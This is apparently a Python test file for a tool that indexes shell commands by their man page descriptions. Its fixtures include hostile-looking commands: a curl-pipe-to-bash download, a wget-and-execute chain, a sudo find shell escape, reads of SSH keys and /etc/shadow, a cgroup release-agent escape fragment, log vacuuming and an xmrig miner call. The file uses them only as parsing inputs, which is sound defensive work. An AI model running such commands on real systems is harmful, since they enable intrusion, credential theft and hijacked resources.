"""The indexing text of a behaviour (streams/describe.py) and the manual's descriptions it
reads (ruleless/man_descriptions.py, data generated from Debian's man-db)."""

from __future__ import annotations

from ruleless import man_descriptions
from streams.describe import descriptions, files, indexing_text, programs, split_words


def test_the_data_file_is_there_and_small() -> None:
    assert man_descriptions.DATA.exists() and man_descriptions.DATA.stat().st_size < 512 * 1024
    assert man_descriptions.program("nsenter") == "run program in different namespaces"
    assert man_descriptions.program("curl") == "transfer a URL"
    assert man_descriptions.file("shadow") == "shadowed password file"
    assert man_descriptions.program("no-such-program") is None


def test_programs_in_command_position_paths_and_after_runners() -> None:
    assert programs("sh -c curl -fsSL http://x/i.sh | bash") == ["sh", "curl", "bash"]
    assert programs("sh -c cd /tmp && wget -q http://x/k && chmod +x k && ./k &")[:3] == ["sh", "wget", "chmod"]
    # sudo's own description says it executes a command: the program after it counts
    assert programs("sudo find . -exec /bin/sh ; -quit") == ["sudo", "find", "sh"]
    assert programs("X=1 nohup ./run.sh") == ["nohup"]
    # arguments are not programs
    assert "id" not in programs("cat /root/.ssh/id_rsa") and "time" not in programs("journalctl --vacuum-time=1s")


def test_files_the_manual_describes() -> None:
    assert files("sh -c unshadow /etc/passwd /etc/shadow > /tmp/h") == ["passwd", "shadow"]
    assert "shadow: shadowed password file" in descriptions("cat /etc/shadow")


def test_words_split_paths_options_and_identifiers() -> None:
    assert split_words("echo 1 > /tmp/cgrp/x/notify_on_release") == ["echo", "tmp", "cgrp", "notify", "on", "release"]
    assert split_words("perl -MLWP::Simple -e getStore") == ["perl", "mlwp", "simple", "get", "store"]
    # random keys are not words
    assert "af" not in split_words("xmrig -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7")
    assert indexing_text("curl http://x").startswith("curl: transfer a URL. curl http")
